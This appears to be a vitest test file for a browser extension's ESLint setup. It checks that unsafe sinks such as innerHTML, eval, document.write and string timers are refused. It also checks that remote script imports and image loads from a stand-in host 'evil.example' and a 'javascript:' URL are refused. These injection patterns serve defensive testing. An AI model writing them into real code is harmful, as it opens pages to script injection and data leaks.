/** The rules that keep captured pages from becoming pages of ours, put to code that breaks them. */
import { resolve } from "node:path"
import { ESLint } from "eslint"
import { expect, test } from "vitest"

const lint = new ESLint({ overrideConfigFile: "scripts/eslint.config.js" })

/** The rules that refuse a line of code, as it would stand in the popup. */
async function refusals(code: string, file = "src/ui/popup/main.ts"): Promise<readonly (string | null)[]> {
  const filePath = resolve(file)
  const [result] = await lint.lintText(`${code}\n`, { filePath })
  return (result?.messages ?? []).filter(({ severity }) => severity === 2).map(({ ruleId }) => ruleId)
}

const page = "declare const element: HTMLElement\ndeclare const text: string\n"

test.each([
  "element.innerHTML = text",
  "element.innerHTML += text",
  "element.outerHTML = text",
  `element["innerHTML"] = text`,
  `Reflect.set(element, "outerHTML", text)`,
  "Object.assign(element, { innerHTML: text })",
  `element.insertAdjacentHTML("beforeend", text)`,
  `element.setAttribute("srcdoc", text)`,
  "element.setHTMLUnsafe(text)",
  "document.write(text)",
  "window.document.writeln(text)",
  "document.createRange().createContextualFragment(text)",
  "eval(text)",
  "globalThis.eval(text)",
  "new Function(text)",
  "Function(text)",
  "setTimeout(text, 1)",
  "importScripts(text)",
  "void import(text)",
  `void import("https://evil.example/x.js")`,
  `import "https://evil.example/x.js"`,
  `location.href = "javascript:alert(1)"`,
  `new Image().src = "https://evil.example/x.png"`,
  `new Image().src = "//evil.example/x.png"`,
])(
  "%s is refused",
  async code => {
    const found = await refusals(page + code)
    const meant =
      /^(no-restricted-syntax|no-eval|no-new-func|no-script-url|@typescript-eslint\/no-implied-eval)$/
    expect(found.filter(rule => meant.test(rule ?? ""))).not.toEqual([])
  },
  60_000,
)

test("nodes and text are not", async () => {
  const code = `${page}element.textContent = text\nelement.append(text)\nnew Image().src = "icon.png"\nsetTimeout(() => { element.remove() }, 1)`
  expect(await refusals(code)).toEqual([])
})

test("no comment switches a rule off", async () => {
  expect(await refusals(`${page}// eslint-disable-next-line\nelement.innerHTML = text`)).toContain(
    "no-restricted-syntax",
  )
})

test.each([
  [".head_name_24eEB", true],
  ["a.head-info_time_6sFQg", true],
  ["[class*='Feed_wrap_3v9LH']", true],
  ["._wbtext_1psp9_14", true],
  ["[class*='_name_']", false],
  [".wbpro-feed-reText", false],
  ["user.verified_reason", false],
  ["__INITIAL_STATE__.note.noteDetailMap", false],
  ["region_name", false],
])("in an adapter, %s is refused as a name that a build made up: %s", async (selector, isRefused) => {
  const found = await refusals(`export const css = "${selector}"`, "src/capture/sites/weibo.ts")
  expect(found.includes("no-restricted-syntax")).toBe(isRefused)
})
